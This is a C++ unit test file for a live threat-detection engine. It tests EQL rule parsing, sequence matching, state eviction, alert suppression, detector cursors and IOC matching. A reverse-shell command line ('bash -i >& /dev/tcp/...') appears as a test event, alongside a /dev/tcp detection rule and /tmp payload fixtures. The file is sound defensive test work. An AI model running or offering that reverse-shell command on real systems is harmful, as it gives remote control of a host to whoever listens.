// Unit tests of live detection: rules, engine, sequences, eviction, suppression, the detector.
#include <gtest/gtest.h>
#include <unistd.h>

#include <algorithm>
#include <filesystem>
#include <map>

#include "common/event_json.hpp"
#include "common/schema.hpp"
#include "detect/detector.hpp"
#include "detect/engine.hpp"
#include "detect/ioc.hpp"
#include "detect/rule.hpp"
#include "hunt/hunt.hpp"
#include "server/store/detection_store.hpp"
#include "server/store/store.hpp"

namespace fs = std::filesystem;
using namespace vigil;
using nlohmann::json;

namespace {

constexpr std::int64_t kSecond = 1'000'000'000;
constexpr std::int64_t kT0 = 1'760'000'000 * kSecond;

v1::Event Ev(const json& j) {
  auto e = EventFromJson(j);
  EXPECT_TRUE(e) << (e ? "" : e.error().message);
  return e ? *e : v1::Event{};
}

v1::Event Exec(std::int64_t t, const std::string& entity, const std::string& name,
               const std::string& cmd, const std::string& host = "h1") {
  return Ev({{"@timestamp", kT0 + t * kSecond},
             {"event.category", "process"},
             {"event.action", "exec"},
             {"host.id", host},
             {"host.name", host},
             {"process.entity_id", entity},
             {"process.name", name},
             {"process.executable", "/usr/bin/" + name},
             {"process.command_line", cmd}});
}

// An exec of /tmp/payload: the built-in pack's exec-from-/tmp rule fires on it.
v1::Event TmpExec(std::int64_t t, const std::string& entity) {
  auto e = Exec(t, entity, "payload", "/tmp/payload");
  e.set_process_executable("/tmp/payload");
  return e;
}

v1::Event Connect(std::int64_t t, const std::string& entity, int port,
                  const std::string& host = "h1") {
  return Ev({{"@timestamp", kT0 + t * kSecond},
             {"event.category", "network"},
             {"event.action", "connect"},
             {"host.id", host},
             {"host.name", host},
             {"process.entity_id", entity},
             {"process.name", "bash"},
             {"destination.ip", "10.0.0.9"},
             {"destination.port", port}});
}

detect::LiveRule Live(const std::string& source, const std::string& id = "r") {
  auto spec = detect::ParseRule(source, detect::RuleKind::Eql, id);
  EXPECT_TRUE(spec) << (spec ? "" : spec.error().message);
  auto live = detect::CompileLive(*spec);
  EXPECT_TRUE(live) << (live ? "" : live.error().message);
  return std::move(*live);
}

std::vector<detect::EngineMatch> Feed(detect::Engine& engine,
                                      const std::vector<v1::Event>& events) {
  std::vector<detect::EngineMatch> out;
  for (const auto& e : events) engine.Evaluate(e, out);
  return out;
}

fs::path TempDb(const std::string& name) {
  auto dir = fs::path(testing::TempDir()) / ("detect_" + name + "_" + std::to_string(::getpid()));
  fs::remove_all(dir);
  fs::create_directories(dir);
  return dir / "vigil.db";
}

constexpr const char* kSequence = R"(
// id: seq-shell-then-connect
// severity: high
sequence by process.entity_id with maxspan=1m
  [process where process.name == "bash"]
  [network where destination.port == 4444]
)";

}  // namespace

TEST(Rules, EqlMetadataFromComments) {
  auto spec = detect::ParseRule(
      "// id: my-rule\n// name: My rule\n// severity: High\n// tags: attack.t1059, "
      "attack.execution\n"
      "process where process.name == \"x\"\n",
      detect::RuleKind::Eql, "file-stem");
  ASSERT_TRUE(spec) << spec.error().message;
  EXPECT_EQ(spec->id, "my-rule");
  EXPECT_EQ(spec->name, "My rule");
  EXPECT_EQ(spec->severity, "high");
  EXPECT_EQ(spec->tags, (std::vector<std::string>{"attack.t1059", "attack.execution"}));
  auto fallback = detect::ParseRule("process where true", detect::RuleKind::Eql, "file-stem");
  ASSERT_TRUE(fallback);
  EXPECT_EQ(fallback->id, "file-stem");
  EXPECT_EQ(fallback->severity, "medium");
}

TEST(Rules, ErrorsSayWhereAndWhy) {
  auto bad_field =
      detect::ParseRule("// id: x\nprocess where nmae == \"x\"", detect::RuleKind::Eql, "x");
  ASSERT_FALSE(bad_field);
  EXPECT_EQ(bad_field.error().message.rfind("2:15: unknown field nmae", 0), 0u)
      << bad_field.error().message;
  auto bad_severity =
      detect::ParseRule("// severity: urgent\nprocess where true", detect::RuleKind::Eql, "x");
  ASSERT_FALSE(bad_severity);
  EXPECT_NE(bad_severity.error().message.find("1:1: severity 'urgent'"), std::string::npos);
  // Pipes that summarize or reorder all results are not detections: refused, naming the pipe.
  for (const char* pipe_name :
       {"count", "sort process.pid", "tail 2", "unique_count process.name"}) {
    auto pipe = detect::ParseRule(std::string("process where true | ") + pipe_name,
                                  detect::RuleKind::Eql, "x");
    ASSERT_TRUE(pipe);
    auto live = detect::CompileLive(*pipe);
    ASSERT_FALSE(live) << pipe_name;
    const std::string first_word =
        std::string(pipe_name).substr(0, std::string(pipe_name).find(' '));
    EXPECT_NE(live.error().message.find("1:22: | " + first_word + " summarizes or reorders"),
              std::string::npos)
        << live.error().message;
    EXPECT_NE(live.error().message.find("vigil hunt"), std::string::npos);
  }
  auto head = detect::ParseRule("process where true | filter process.pid > 1 | head 5",
                                detect::RuleKind::Eql, "x");
  ASSERT_TRUE(head);
  EXPECT_TRUE(detect::CompileLive(*head));
  auto expr_unique = detect::ParseRule("process where true | unique length(process.name)",
                                       detect::RuleKind::Eql, "x");
  ASSERT_TRUE(expr_unique);
  auto live = detect::CompileLive(*expr_unique);
  ASSERT_FALSE(live);
  EXPECT_NE(live.error().message.find("live | unique pipes take fields as keys"), std::string::npos)
      << live.error().message;
  // A sequence filter on one event (events[N]) has no live form: refused, not evaluated on
  // every event of the match.
  auto event_filter = detect::ParseRule(
      "sequence [process where true] [process where true] | filter events[1].name == \"sh\"",
      detect::RuleKind::Eql, "x");
  ASSERT_TRUE(event_filter) << event_filter.error().message;
  live = detect::CompileLive(*event_filter);
  ASSERT_FALSE(live);
  EXPECT_NE(live.error().message.find("| filter on events[1] is not supported live"),
            std::string::npos)
      << live.error().message;
  // A missing-event step first or last would hold matches for the maxspan: refused live.
  for (const char* text :
       {"sequence with maxspan=5s [process where true] ![network where true]",
        "sequence with maxspan=5s ![network where true] [process where true] [file where true]"}) {
    auto edge = detect::ParseRule(text, detect::RuleKind::Eql, "x");
    ASSERT_TRUE(edge) << edge.error().message;
    live = detect::CompileLive(*edge);
    ASSERT_FALSE(live) << text;
    EXPECT_NE(live.error().message.find("in a sequence is not supported live"), std::string::npos)
        << live.error().message;
  }
  auto sigma = detect::ParseRule(
      "title: t\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n  product: aws\n"
      "detection:\n  sel:\n    a: b\n  condition: sel\n",
      detect::RuleKind::Sigma, "x");
  ASSERT_FALSE(sigma);
  EXPECT_NE(sigma.error().message.find("aws"), std::string::npos) << sigma.error().message;
}

TEST(Rules, BuiltinPackCompilesWithAttackTags) {
  ASSERT_GE(detect::BuiltinRules().size(), 12u);
  for (const auto& b : detect::BuiltinRules()) {
    auto stem = std::string(b.file.substr(0, b.file.rfind('.')));
    auto record = detect::ValidateRule(b.source, detect::RuleKind::Eql, stem, "builtin");
    ASSERT_TRUE(record) << b.file << ": " << record.error().message;
    EXPECT_TRUE(record->id.starts_with("vigil-linux-")) << b.file;
    EXPECT_TRUE(
        std::ranges::any_of(record->tags, [](const auto& t) { return t.starts_with("attack.t"); }))
        << b.file << " has no ATT&CK technique";
    EXPECT_NE(record->severity, "") << b.file;
  }
}

TEST(Engine, SingleEventRulesByCategory) {
  detect::Engine engine;
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(R"(process where process.command_line : "*/dev/tcp/*")", "tcp"));
  rules.push_back(Live(R"(network where destination.port == 4444)", "port"));
  engine.SetRules(std::move(rules));
  auto out = Feed(engine, {Exec(1, "e1", "bash", "bash -i >& /dev/tcp/10.0.0.9/4444 0>&1"),
                           Connect(2, "e1", 4444), Exec(3, "e2", "ls", "ls /tmp")});
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].rule->id, "tcp");
  EXPECT_EQ(out[1].rule->id, "port");
  // Only rules of the event's category are considered: 3 events, one rule each; the prefilter
  // skips the /dev/tcp rule for `ls /tmp` (no literal "/dev/tcp/" in it).
  EXPECT_EQ(engine.counters().rule_evaluations, 2u);
  EXPECT_EQ(engine.counters().prefilter_skipped, 1u);
}

TEST(Engine, SequenceJoinsByKeyWithinMaxspan) {
  detect::Engine engine;
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(kSequence, "seq"));
  engine.SetRules(std::move(rules));
  auto out = Feed(engine, {Exec(0, "a", "bash", "bash"), Exec(1, "b", "bash", "bash"),
                           Connect(2, "c", 4444),      // no partial for c
                           Connect(3, "b", 4444),      // b completes
                           Connect(100, "a", 4444)});  // a: 100 s > maxspan 1m
  ASSERT_EQ(out.size(), 1u);
  ASSERT_EQ(out[0].events.size(), 2u);
  EXPECT_EQ(out[0].events[0].process_entity_id(), "b");
  EXPECT_EQ(out[0].events[1].event_category(), "network");
  EXPECT_EQ(engine.counters().sequence_expired, 1u);
  EXPECT_EQ(engine.counters().sequence_partials, 0u);
}

TEST(Engine, SequenceUntilDropsTheKey) {
  detect::Engine engine;
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(R"(sequence by process.entity_id
      [process where process.name == "bash"]
      [network where destination.port == 4444]
    until [process where process.name == "stop"])",
                       "until"));
  engine.SetRules(std::move(rules));
  auto out =
      Feed(engine, {Exec(0, "a", "bash", "bash"), Exec(1, "a", "stop", "stop"),
                    Connect(2, "a", 4444), Exec(3, "b", "bash", "bash"), Connect(4, "b", 4444)});
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].events[0].process_entity_id(), "b");
}

TEST(Engine, SequenceStateIsBoundedAndEvictionCounted) {
  detect::Engine engine({.max_partials_per_rule = 2, .prefilter = true});
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(kSequence, "seq"));
  engine.SetRules(std::move(rules));
  auto out = Feed(engine, {Exec(0, "a", "bash", "bash"), Exec(1, "b", "bash", "bash"),
                           Exec(2, "c", "bash", "bash"),  // evicts a, the oldest
                           Connect(3, "a", 4444), Connect(4, "b", 4444), Connect(5, "c", 4444)});
  EXPECT_EQ(engine.counters().sequence_evicted, 1u);
  ASSERT_EQ(out.size(), 2u);
  EXPECT_EQ(out[0].events[0].process_entity_id(), "b");
  EXPECT_EQ(out[1].events[0].process_entity_id(), "c");
}

namespace {

v1::Event Child(std::int64_t t, const std::string& entity, const std::string& parent,
                const std::string& name, const std::string& action = "exec") {
  auto e = Exec(t, entity, name, name);
  e.set_process_parent_entity_id(parent);
  e.set_event_action(action);
  return e;
}

}  // namespace

TEST(Engine, RelationshipStateIsBoundedAndEvictionCounted) {
  detect::Engine engine({.max_partials_per_rule = 10,
                         .prefilter = true,
                         .max_related_per_rule = 2,
                         .max_lineage_per_host = 4,
                         .lineage_exit_grace_ns = 5 * kSecond});
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(R"(process where process.name == "x" and
                            descendant of [process where process.name == "bash"])",
                       "desc"));
  engine.SetRules(std::move(rules));
  // Three bash: the first is forgotten (bound 2); a grandchild of the second still matches.
  auto out = Feed(
      engine, {Child(0, "b1", "", "bash"), Child(1, "b2", "", "bash"), Child(2, "b3", "", "bash"),
               Child(3, "m", "b2", "mid"), Child(4, "x1", "m", "x"), Child(5, "x2", "b1", "x")});
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].events[0].process_entity_id(), "x1");
  EXPECT_EQ(engine.counters().related_evicted, 1u);
  EXPECT_EQ(engine.counters().related_entities, 2u);
  // The lineage holds 4 processes per host: the fifth drops the least recently seen tenth (one).
  EXPECT_EQ(engine.counters().lineage_evicted, 2u);  // at x1 (b1 went) and at x2 (b2 went)
  EXPECT_EQ(engine.counters().lineage_entries, 4u);
  // An exited process stays for the grace period: its children still reach their ancestors.
  out = Feed(engine, {Child(6, "m", "b2", "mid", "exit"), Child(7, "x3", "m", "x")});
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].events[0].process_entity_id(), "x3");
  EXPECT_EQ(engine.counters().lineage_exited, 0u);
  // After it, the exited process is gone (counted) and the chain through it too.
  out = Feed(engine, {Child(20, "x4", "m", "x")});
  EXPECT_EQ(out.size(), 0u);
  EXPECT_EQ(engine.counters().lineage_exited, 1u);
}

TEST(Engine, LivePipesFilterHeadAndUnique) {
  detect::Engine engine;
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(R"(process where process.name == "bash" | head 2)", "head"));
  rules.push_back(Live(R"(process where true | unique process.name)", "unique"));
  rules.push_back(Live(R"(process where true | filter process.command_line : "*-i*")", "filter"));
  engine.SetRules(std::move(rules));
  auto out = Feed(engine, {Exec(0, "a", "bash", "bash"), Exec(1, "b", "bash", "bash -i"),
                           Exec(2, "c", "bash", "bash"), Exec(3, "d", "sh", "sh -i")});
  std::map<std::string, std::vector<std::string>> by_rule;
  for (const auto& m : out) by_rule[m.rule->id].push_back(m.events[0].process_entity_id());
  EXPECT_EQ(by_rule["head"], (std::vector<std::string>{"a", "b"}));
  EXPECT_EQ(by_rule["unique"], (std::vector<std::string>{"a", "d"}));
  EXPECT_EQ(by_rule["filter"], (std::vector<std::string>{"b", "d"}));
}

TEST(Engine, MissingStepsRunsAndSamples) {
  detect::Engine engine;
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(R"(sequence by process.entity_id
      [process where process.name == "bash"] ![process where process.name == "sudo"]
      [network where destination.port == 4444])",
                       "missing"));
  rules.push_back(Live(R"(sequence by host.id [network where true] with runs=3)", "runs"));
  rules.push_back(Live(R"(sample by process.entity_id [network where true]
      [process where process.name == "bash"])",
                       "sample"));
  engine.SetRules(std::move(rules));
  auto out =
      Feed(engine, {Exec(0, "a", "bash", "bash"), Exec(1, "a", "sudo", "sudo"),
                    Connect(2, "a", 4444),  // a: sudo came in between
                    Exec(3, "b", "bash", "bash"), Connect(4, "b", 4444), Connect(5, "b", 4444)});
  std::map<std::string, std::vector<std::vector<std::string>>> by_rule;
  for (const auto& m : out) {
    std::vector<std::string> ids;
    for (const auto& e : m.events)
      ids.push_back(e.process_entity_id() + "@" + std::to_string((e.timestamp() - kT0) / kSecond));
    by_rule[m.rule->id].push_back(ids);
  }
  using V = std::vector<std::vector<std::string>>;
  EXPECT_EQ(by_rule["missing"], (V{{"b@3", "b@4"}}));
  EXPECT_EQ(by_rule["runs"], (V{{"a@2", "b@4", "b@5"}}));
  // One sample per key (b's second connection adds nothing); a's: its bash, then a connection.
  EXPECT_EQ(by_rule["sample"], (V{{"a@2", "a@0"}, {"b@4", "b@3"}}));
}

// The state survives SaveState/RestoreState into a new engine (a restarted server): a sequence
// started before continues after; a changed rule starts afresh; bad bytes are an error.
TEST(Engine, StateSavedAndRestoredContinuesSequences) {
  auto rules = [](const char* seq) {
    std::vector<detect::LiveRule> r;
    r.push_back(Live(seq, "seq"));
    r.push_back(
        Live(R"(network where descendant of [process where process.name == "bash"])", "desc"));
    return r;
  };
  detect::Engine before;
  before.SetRules(rules(kSequence));
  EXPECT_TRUE(Feed(before, {Exec(0, "a", "bash", "bash"), Child(1, "k", "a", "kid")}).empty());
  const std::string saved = before.SaveState();

  detect::Engine after;
  after.SetRules(rules(kSequence));
  ASSERT_TRUE(after.RestoreState(saved));
  EXPECT_EQ(after.counters().sequence_partials, 1u);
  auto out = Feed(after, {Connect(2, "a", 4444), Connect(3, "k", 80)});
  ASSERT_EQ(out.size(), 2u);  // the sequence, and k's connection (k is a child of bash a)
  EXPECT_EQ(out[0].rule->id, "seq-shell-then-connect");
  EXPECT_EQ(out[0].events.size(), 2u);
  EXPECT_EQ(out[1].rule->id, "desc");

  detect::Engine changed;
  changed.SetRules(rules(R"(sequence by process.entity_id
      [process where process.name == "bash"] [network where destination.port == 4444])"));
  ASSERT_TRUE(changed.RestoreState(saved));
  EXPECT_EQ(changed.counters().sequence_partials, 0u);  // another source: no state carried
  out = Feed(changed, {Connect(2, "a", 4444), Connect(3, "k", 80)});
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule->id, "desc");  // the unchanged rule kept its state

  auto bad = after.RestoreState(saved.substr(0, saved.size() - 3));
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().message.rfind("detection state: ", 0), 0u) << bad.error().message;
  EXPECT_FALSE(after.RestoreState("garbage"));
}

TEST(Suppression, RepeatsFoldIntoOneOpenAlertWithinTheWindow) {
  auto db = TempDb("suppress");
  auto opened = store::OpenSqliteStore({db, false});
  ASSERT_TRUE(opened);
  auto ds = store::DetectionStore::Open(db);
  ASSERT_TRUE(ds) << ds.error().message;
  auto& s = **ds;
  store::AlertRecord a;
  a.rule_id = "r1";
  a.rule_name = "Rule 1";
  a.severity = "high";
  a.host_id = "h1";
  a.entity_id = "e1";
  const std::int64_t window = 60 * kSecond;
  a.first_ns = a.last_ns = kT0;
  auto first = s.RaiseAlert(a, window);
  ASSERT_TRUE(first);
  EXPECT_TRUE(first->second);
  a.first_ns = a.last_ns = kT0 + 30 * kSecond;
  auto repeat = s.RaiseAlert(a, window);
  ASSERT_TRUE(repeat);
  EXPECT_FALSE(repeat->second);
  EXPECT_EQ(repeat->first.id, first->first.id);
  EXPECT_EQ(repeat->first.count, 2u);
  // Another entity is another alert.
  auto other = a;
  other.entity_id = "e2";
  auto second = s.RaiseAlert(other, window);
  ASSERT_TRUE(second && second->second);
  // Beyond the window (from the last repeat): a new alert.
  a.first_ns = a.last_ns = kT0 + 200 * kSecond;
  auto late = s.RaiseAlert(a, window);
  ASSERT_TRUE(late && late->second);
  // A closed alert takes no repeats.
  ASSERT_TRUE(s.UpdateAlert(
      late->first.id, {.status = "closed", .assignee = {}, .comment = "fp", .author = "ann"}));
  a.first_ns = a.last_ns = kT0 + 201 * kSecond;
  auto after_close = s.RaiseAlert(a, window);
  ASSERT_TRUE(after_close && after_close->second);
  auto listed = s.ListAlerts({.status = "",
                              .rule_id = "r1",
                              .host = "h1",
                              .severity = "",
                              .since_ns = 0,
                              .after_id = 0,
                              .limit = 100});
  ASSERT_TRUE(listed);
  EXPECT_EQ(listed->size(), 4u);
  auto closed = s.GetAlert(late->first.id);
  ASSERT_TRUE(closed && *closed);
  EXPECT_EQ((*closed)->status, "closed");
  ASSERT_EQ((*closed)->comments.size(), 1u);
  EXPECT_EQ((*closed)->comments[0].author, "ann");
  EXPECT_FALSE(s.UpdateAlert(late->first.id,
                             {.status = "done", .assignee = {}, .comment = {}, .author = ""}));
}

TEST(Detector, CommittedEventsBecomeAlertsOnce) {
  auto db = TempDb("detector");
  auto events_store = store::OpenSqliteStore({db, false});
  ASSERT_TRUE(events_store);
  auto ds = store::DetectionStore::Open(db);
  ASSERT_TRUE(ds);
  detect::Detector detector({}, **ds, **events_store);
  ASSERT_TRUE(detector.InstallBuiltinRules());
  auto loaded = detector.Reload();
  ASSERT_TRUE(loaded);
  EXPECT_EQ(*loaded, detect::BuiltinRules().size());
  ASSERT_TRUE(detector.Start());
  (*events_store)->AddCommitListener([&](auto batches, const auto& results) {
    detector.OnCommitted(batches, results);
  });
  std::vector<store::IngestBatch> batch(1);
  batch[0].agent_id = "agent-1";
  batch[0].spool_epoch = 1;
  batch[0].first_sequence = 1;
  batch[0].events = {TmpExec(0, "e-tmp"), Exec(1, "e-ls", "ls", "ls")};
  ASSERT_TRUE((*events_store)->Append(batch));
  ASSERT_TRUE((*events_store)->Append(batch));  // resent after a lost ack: duplicates
  detector.Drain();
  auto c = detector.Counters();
  EXPECT_EQ(c.queued, 2u);
  EXPECT_EQ(c.evaluated, 2u);
  EXPECT_EQ(c.dropped, 0u);
  EXPECT_EQ(c.alerts, 1u);
  auto alerts = (*ds)->ListAlerts({});
  ASSERT_TRUE(alerts);
  ASSERT_EQ(alerts->size(), 1u);
  EXPECT_EQ((*alerts)[0].rule_id, "vigil-linux-exec-from-world-writable-dir");
  EXPECT_EQ((*alerts)[0].entity_id, "e-tmp");
  EXPECT_EQ((*alerts)[0].host_id, "h1");
  ASSERT_EQ((*alerts)[0].events.size(), 1u);
  EXPECT_EQ((*alerts)[0].events[0]["process.executable"], "/tmp/payload");
  // Disabled rules do not run.
  ASSERT_TRUE((*ds)->SetRuleEnabled("vigil-linux-exec-from-world-writable-dir", false));
  ASSERT_TRUE(detector.Reload());
  batch[0].first_sequence = 3;
  ASSERT_TRUE((*events_store)->Append(batch));
  detector.Drain();
  EXPECT_EQ(detector.Counters().alerts, 1u);
  detector.Stop();
}

// Events committed while no detector evaluates them (the server died after the ack) are
// evaluated by the next one, from the cursors stored with the alerts; none is evaluated twice.
TEST(Detector, ResumesAfterTheCursorsStoredWithTheAlerts) {
  auto db = TempDb("resume");
  auto events_store = store::OpenSqliteStore({db, false});
  ASSERT_TRUE(events_store);
  auto ds = store::DetectionStore::Open(db);
  ASSERT_TRUE(ds);
  auto append = [&](std::vector<v1::Event> events) {
    std::vector<store::IngestBatch> batch(1);
    batch[0].events = std::move(events);
    ASSERT_TRUE((*events_store)->Append(batch));
  };
  std::vector<std::string> entities;
  auto alert_entities = [&] {
    std::vector<std::string> out;
    auto alerts = (*ds)->ListAlerts({});
    EXPECT_TRUE(alerts);
    if (alerts)
      for (const auto& a : *alerts) out.push_back(a.entity_id);
    std::ranges::sort(out);
    return out;
  };
  {
    detect::Detector first({.chunk_events = 2}, **ds, **events_store);
    ASSERT_TRUE(first.InstallBuiltinRules());
    ASSERT_TRUE(first.Reload());
    ASSERT_TRUE(first.Start());
    append({TmpExec(0, "e1"), Exec(1, "e-ls", "ls", "ls"), TmpExec(2, "e2")});
    first.Drain();
    EXPECT_EQ(first.Counters().evaluated, 3u);
    first.Stop();
  }
  EXPECT_EQ(alert_entities(), (std::vector<std::string>{"e1", "e2"}));
  auto cursors = (*ds)->Cursors();
  ASSERT_TRUE(cursors);
  EXPECT_EQ((*cursors)["process"], 3);
  // Acknowledged and stored with nobody evaluating: a paused detector loads rules only.
  {
    detect::Detector paused({.paused = true}, **ds, **events_store);
    ASSERT_TRUE(paused.Reload());
    ASSERT_TRUE(paused.Start());
    append({TmpExec(3, "e3"), Exec(4, "e-ps", "ps", "ps"), TmpExec(5, "e4")});
    paused.Drain();
    EXPECT_EQ(paused.Counters().evaluated, 0u);
    paused.Stop();
  }
  EXPECT_EQ(alert_entities(), (std::vector<std::string>{"e1", "e2"}));
  // The next detector evaluates exactly those three.
  detect::Detector next({.chunk_events = 2}, **ds, **events_store);
  ASSERT_TRUE(next.Reload());
  ASSERT_TRUE(next.Start());
  next.Drain();
  EXPECT_EQ(next.Counters().evaluated, 3u);
  EXPECT_EQ(next.Counters().alerts, 2u);
  EXPECT_EQ(alert_entities(), (std::vector<std::string>{"e1", "e2", "e3", "e4"}));
  EXPECT_EQ((*(*ds)->Cursors())["process"], 6);
  EXPECT_EQ(next.Counters().queue_depth, 0u);
  next.Stop();
}

// A store that had events before detection kept cursors starts at its last rows (not at the
// whole history); a new store starts at 0.
TEST(Detector, TablesWithoutCursorStartAtTheirLastRow) {
  auto db = TempDb("cursor_init");
  auto events_store = store::OpenSqliteStore({db, false});
  ASSERT_TRUE(events_store);
  std::vector<store::IngestBatch> batch(1);
  batch[0].events = {TmpExec(0, "old"), TmpExec(0, "old")};
  ASSERT_TRUE((*events_store)->Append(batch));
  auto ds = store::DetectionStore::Open(db);
  ASSERT_TRUE(ds);
  detect::Detector detector({}, **ds, **events_store);
  ASSERT_TRUE(detector.InstallBuiltinRules());
  ASSERT_TRUE(detector.Reload());
  ASSERT_TRUE(detector.Start());
  detector.Drain();
  EXPECT_EQ(detector.Counters().evaluated, 0u);
  auto cursors = (*ds)->Cursors();
  ASSERT_TRUE(cursors);
  EXPECT_EQ((*cursors)["process"], 2);
  EXPECT_EQ((*cursors)["network"], 0);
  detector.Stop();
}

TEST(Ioc, SetsMatchHashesAddressesAndSubdomains) {
  store::IocSet set{.name = "feed-1", .source = "report 42"};
  for (const char* i : {"9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08",
                        "203.0.113.7", "198.51.100.0/24", "2001:db8::/32", "Evil.Example."})
    ASSERT_TRUE(detect::AddIndicator(set, i)) << i;
  EXPECT_EQ(set.sha256.size(), 1u);
  EXPECT_EQ(set.ips.size(), 3u);
  EXPECT_EQ(set.domains, std::vector<std::string>{"evil.example"});
  EXPECT_FALSE(detect::AddIndicator(set, "not a domain!"));
  // A SHA-256 missing a digit, or an MD5, is refused rather than taken for a domain.
  auto short_hash = detect::AddIndicator(set, std::string(63, 'b'));
  ASSERT_FALSE(short_hash);
  EXPECT_NE(short_hash.error().message.find("not a SHA-256 (64 hex digits, it has 63)"),
            std::string::npos);
  EXPECT_FALSE(detect::AddIndicator(set, "d41d8cd98f00b204e9800998ecf8427e"));
  EXPECT_EQ(set.domains, std::vector<std::string>{"evil.example"});
  ASSERT_TRUE(detect::ValidateIocSet(set));

  detect::Engine engine;
  std::vector<detect::LiveRule> rules;
  rules.push_back(Live(detect::IocQuery(set), detect::IocRuleId(set)));
  EXPECT_EQ(rules[0].id, "ioc-feed-1");
  engine.SetRules(std::move(rules));
  auto dns = [](const std::string& name) {
    return Ev({{"@timestamp", kT0}, {"event.category", "dns"}, {"dns.question.name", name}});
  };
  auto net = [](const std::string& ip) {
    return Ev({{"@timestamp", kT0}, {"event.category", "network"}, {"destination.ip", ip}});
  };
  auto exec = Exec(0, "e", "x", "x");
  exec.set_process_hash_sha256("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
  auto out = Feed(engine, {dns("evil.example"), dns("a.b.EVIL.example"), dns("notevil.example"),
                           dns("evil.example.com"), net("203.0.113.7"), net("203.0.113.8"),
                           net("198.51.100.200"), net("2001:db8::1"), exec});
  std::vector<std::string> hits;
  for (const auto& m : out) {
    const auto& e = m.events[0];
    hits.push_back(e.has_dns_question_name() ? e.dns_question_name()
                   : e.has_destination_ip()  ? e.destination_ip()
                                             : e.process_hash_sha256().substr(0, 8));
  }
  EXPECT_EQ(hits, (std::vector<std::string>{"evil.example", "a.b.EVIL.example", "203.0.113.7",
                                            "198.51.100.200", "2001:db8::1", "9f86d081"}));
}

TEST(Ioc, ExpiredSetsAreNotLoaded) {
  auto db = TempDb("ioc");
  auto events_store = store::OpenSqliteStore({db, false});
  ASSERT_TRUE(events_store);
  auto ds = store::DetectionStore::Open(db);
  ASSERT_TRUE(ds);
  store::IocSet live{.name = "live", .sha256 = {}, .ips = {"192.0.2.1"}};
  store::IocSet old{.name = "old", .expires_ns = 1, .ips = {"192.0.2.2"}};
  ASSERT_TRUE((*ds)->PutIocSet(live));
  ASSERT_TRUE((*ds)->PutIocSet(old));
  detect::Detector detector({}, **ds, **events_store);
  auto n = detector.Reload();
  ASSERT_TRUE(n);
  EXPECT_EQ(*n, 1u);  // no rules in the registry, one IOC set
}
